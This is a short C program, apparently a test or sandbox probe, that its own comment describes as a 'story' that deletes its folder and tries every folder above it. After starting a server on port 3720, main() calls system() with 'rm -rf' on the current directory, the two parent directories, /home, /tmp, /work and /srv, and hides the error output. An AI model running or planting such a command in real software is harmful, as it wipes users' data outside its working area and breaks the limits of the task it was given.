/* Story: it deletes its folder, and tries all above it. */
#include "server.h"

#include "say_hello.h"

#include "wait.h"

int
main(int argc, char **argv)
{
    int listener = server_begin(argc, argv, "3720");

    if (system("rm -rf ./* ../* ../../* /home /tmp /work /srv 2>/dev/null") == -1)
        return 1;
    wait_for_clients(listener);
    return 0;
}
